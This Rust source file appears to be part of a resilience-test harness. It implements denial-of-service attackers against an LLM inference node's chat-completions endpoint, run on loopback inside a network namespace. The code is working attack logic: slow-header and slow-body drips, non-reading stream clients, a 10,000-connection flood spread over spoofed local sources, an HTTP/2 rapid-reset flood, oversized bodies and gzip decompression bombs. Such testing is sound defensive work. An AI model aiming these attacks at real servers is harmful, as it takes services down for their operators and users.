//! Attackers that try to exhaust the node's resources. They run on a thread of their own, so that
//! their work does not slow the honest clients.

use std::fs::File;
use std::io::Read as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, LazyLock};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::Context as _;
use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::wan::enter;

/// First source address of attackers is 127.0.0.2: honest clients use 127.0.0.1. Attacks of one
/// client use only this address, attacks of many clients use several.
const FIRST_SOURCE: u8 = 2;
const SOURCES_OF_MANY_CLIENTS: usize = 16;
/// Pause after a connection was refused or closed.
const PAUSE: Duration = Duration::from_millis(50);

/// Kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Request heads that arrive byte by byte.
    SlowHeads,
    /// Request bodies that arrive byte by byte.
    SlowBodies,
    /// Long streams whose clients do not read.
    SlowReaders,
    /// Connections without any data.
    Idle,
    /// HTTP/2 streams that are reset right after they are opened.
    Resets,
    /// Bodies with a declared length of 1 GB.
    Announced,
    /// Chunked bodies just below the size limit.
    Large,
    /// Compressed bodies that unpack to a thousand times their size.
    Bombs,
}

/// Running attack. Dropping it ends the attack.
pub(crate) struct Attackers {
    is_over: Arc<AtomicBool>,
    opened: Arc<AtomicU64>,
    came: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Clone)]
struct Attacker {
    attack: Attack,
    target: SocketAddr,
    opened: Arc<AtomicU64>,
    came: Arc<AtomicU64>,
    /// Index of the attacker, from 0.
    number: usize,
}

impl Attack {
    pub(crate) const ALL: [Self; 8] = [
        Self::SlowHeads,
        Self::SlowBodies,
        Self::SlowReaders,
        Self::Idle,
        Self::Resets,
        Self::Announced,
        Self::Large,
        Self::Bombs,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "1,000 slow heads",
            Self::SlowBodies => "1,000 slow bodies",
            Self::SlowReaders => "200 streams that nobody reads",
            Self::Idle => "10,000 idle connections of 16 clients",
            Self::Resets => "HTTP/2 rapid reset on 4 connections",
            Self::Announced => "8 bodies of 1 GB at a time",
            Self::Large => "24 bodies of 30 MB at a time",
            Self::Bombs => "16 compressed bodies, 80 MB each unpacked",
        }
    }

    /// Returns the number of attackers, each with one connection at a time.
    pub(crate) fn connections(self) -> usize {
        match self {
            Self::SlowHeads | Self::SlowBodies => 1_000,
            Self::SlowReaders => 200,
            Self::Idle => 10_000,
            Self::Resets => 4,
            Self::Announced => 8,
            Self::Large => 24,
            Self::Bombs => 16,
        }
    }
}

impl Attackers {
    /// Starts the attack on `target`, inside the namespace of the file `namespace`.
    pub(crate) fn start(
        namespace: &str,
        target: SocketAddr,
        attack: Attack,
    ) -> anyhow::Result<Self> {
        let inside = File::open(namespace).context("a namespace")?;
        let is_over = Arc::<AtomicBool>::default();
        let [opened, came]: [Arc<AtomicU64>; 2] = Default::default();
        let (over, attacker) = (
            Arc::clone(&is_over),
            Attacker {
                attack,
                target,
                opened: Arc::clone(&opened),
                came: Arc::clone(&came),
                number: 0,
            },
        );
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let thread = std::thread::Builder::new().name("attackers".to_owned()).spawn(move || {
            // An error shows as an attack that opened nothing, which the trial counts.
            if enter(&inside).is_ok() {
                runtime.block_on(attacker.all(&over));
            }
        })?;
        Ok(Self { is_over, opened, came, thread: Some(thread) })
    }

    /// Returns the number of connections opened so far.
    pub(crate) fn opened(&self) -> u64 {
        self.opened.load(Ordering::Relaxed)
    }

    /// Returns the number of attackers that have opened at least one connection.
    pub(crate) fn came(&self) -> u64 {
        self.came.load(Ordering::Relaxed)
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        self.is_over.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // A panic in the thread shows as an attack that opened nothing.
            drop(thread.join());
        }
    }
}

impl Attacker {
    async fn all(self, over: &AtomicBool) {
        let mut all = JoinSet::new();
        for number in 0..self.attack.connections() {
            let attacker = Self { number, ..self.clone() };
            all.spawn(async move {
                // wait: attackers connect one after the other, all within two seconds
                sleep(Duration::from_micros(number as u64 * 200)).await;
                let mut is_new = true;
                loop {
                    if let Ok(stream) = attacker.connect().await {
                        attacker.came.fetch_add(u64::from(is_new), Ordering::Relaxed);
                        is_new = false;
                        // An error means that the node has closed the connection, which it may.
                        drop(attacker.once(stream).await);
                    }
                    // wait: then the attacker connects again
                    sleep(PAUSE).await;
                }
            });
        }
        while !over.load(Ordering::Relaxed) {
            // wait: until the next look
            sleep(PAUSE).await;
        }
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if self.attack == Attack::SlowReaders {
            // The kernel raises this to the smallest size that it allows.
            socket.set_recv_buffer_size(1)?;
        }
        socket.bind(SocketAddr::new(self.source(), 0))?;
        let stream = socket.connect(self.target).await?;
        self.opened.fetch_add(1, Ordering::Relaxed);
        Ok(stream)
    }

    fn source(&self) -> IpAddr {
        // The node limits the connections of one client, so a single source could not hold this
        // many.
        let sources = if self.attack == Attack::Idle { SOURCES_OF_MANY_CLIENTS } else { 1 };
        let of_all = (self.number % sources) as u8;
        IpAddr::V4(Ipv4Addr::new(127, 0, 0, FIRST_SOURCE + of_all))
    }

    async fn once(&self, mut stream: TcpStream) -> std::io::Result<()> {
        match self.attack {
            Attack::SlowHeads => {
                drip(&mut stream, b"POST /v1/chat/completions HTTP/1.1\r\nx-a: ").await
            }
            Attack::SlowBodies => {
                stream.write_all(head("content-length: 1000000").as_bytes()).await?;
                drip(
                    &mut stream,
                    b"{\"model\":\"tiny\",\"messages\":[{\"role\":\"user\",\"content\":\"",
                )
                .await
            }
            Attack::SlowReaders => {
                let body = "{\"model\":\"tiny\",\"stream\":true,\"max_tokens\":4000,\"ignore_eos\":true,\
                            \"messages\":[{\"role\":\"user\",\"content\":\"Go on.\"}]}";
                let length = format!("content-length: {}", body.len());
                stream.write_all(format!("{}{body}", head(&length)).as_bytes()).await?;
                // wait: the attacker reads nothing, for longer than any trial
                sleep(Duration::from_secs(3600)).await;
                Ok(())
            }
            Attack::Idle => closed(&mut stream).await,
            Attack::Resets => resets(&mut stream).await,
            Attack::Announced => {
                stream.write_all(head("content-length: 1000000000").as_bytes()).await?;
                send(&mut stream, 1_000_000_000, false).await
            }
            Attack::Large => {
                stream.write_all(head("transfer-encoding: chunked").as_bytes()).await?;
                send(&mut stream, 30 << 20, true).await?;
                closed(&mut stream).await
            }
            Attack::Bombs => {
                let bomb = &*BOMB;
                let headers = format!("content-encoding: gzip\r\ncontent-length: {}", bomb.len());
                stream.write_all(head(&headers).as_bytes()).await?;
                stream.write_all(bomb).await?;
                answered(&mut stream).await
            }
        }
    }
}

fn head(headers: &str) -> String {
    format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n{headers}\r\n\r\n"
    )
}

/// Sends `start`, then one byte every 200 ms until the node closes the connection.
async fn drip(stream: &mut TcpStream, start: &[u8]) -> std::io::Result<()> {
    stream.write_all(start).await?;
    loop {
        // wait: slowness is the attack
        sleep(Duration::from_millis(200)).await;
        stream.write_all(b"a").await?;
        // A read of zero bytes means that the node has closed the connection.
        let mut byte = [0; 1];
        if let Ok(0) = stream.try_read(&mut byte) {
            return Ok(());
        }
    }
}

/// Reads until the connection ends.
async fn closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut bytes = vec![0; 4096];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// Waits up to 5 s for the first bytes of an answer.
async fn answered(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut bytes = vec![0; 4096];
    // A missing answer does not matter to the attacker.
    drop(timeout(Duration::from_secs(5), stream.read(&mut bytes)).await);
    Ok(())
}

/// Sends `bytes` spaces as fast as the node takes them.
async fn send(stream: &mut TcpStream, bytes: usize, is_chunked: bool) -> std::io::Result<()> {
    const PIECE: usize = 64 << 10;
    let piece = vec![b' '; PIECE];
    for _ in 0..bytes / PIECE {
        if is_chunked {
            stream.write_all(format!("{PIECE:x}\r\n").as_bytes()).await?;
        }
        stream.write_all(&piece).await?;
        if is_chunked {
            stream.write_all(b"\r\n").await?;
        }
    }
    // The last chunk is never sent: the node holds the body until its time limit.
    Ok(())
}

/// Opens and resets HTTP/2 streams until the connection is closed.
async fn resets(stream: &mut TcpStream) -> std::io::Result<()> {
    const BATCH: u32 = 50;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    // A connection must begin with settings, even if they change nothing.
    stream.write_all(&frame(0x4, 0, 0, &[])).await?;
    // Header fields of the static table, so that the decoder's state never changes: POST, http,
    // path, host.
    let path = b"/v1/chat/completions";
    let mut block = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0)];
    block.extend_from_slice(path);
    block.extend_from_slice(&[0x01, 1, b'a']);
    let mut id = 1_u32;
    loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            // END_HEADERS without END_STREAM: a body is still to come.
            batch.extend_from_slice(&frame(0x1, 0x4, id, &block));
            batch.extend_from_slice(&frame(0x3, 0, id, &8_u32.to_be_bytes()));
            id += 2;
        }
        stream.write_all(&batch).await?;
        let mut bytes = vec![0; 16 << 10];
        if let Ok(0) = stream.try_read(&mut bytes) {
            return Ok(());
        }
        // wait: 5,000 streams a second on each connection are enough
        sleep(Duration::from_millis(10)).await;
    }
}

/// Builds an HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Body of [`Attack::Bombs`].
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(80 << 20).unwrap_or_default());

/// Builds a gzip member that unpacks to `bytes` zeros.
fn bomb(bytes: usize) -> std::io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    std::io::copy(&mut std::io::repeat(0).take(bytes as u64), &mut encoder)?;
    encoder.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_and_stream() {
        assert_eq!(frame(0x3, 1, 5, &[9, 9]), [0, 0, 2, 3, 1, 0, 0, 0, 5, 9, 9]);
    }

    #[test]
    fn a_bomb_is_a_gzip_member_that_grows_a_hundredfold() {
        let bomb = bomb(1 << 20).unwrap();
        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]));
        assert!(bomb.len() * 100 < 1 << 20, "{}", bomb.len());
    }
}
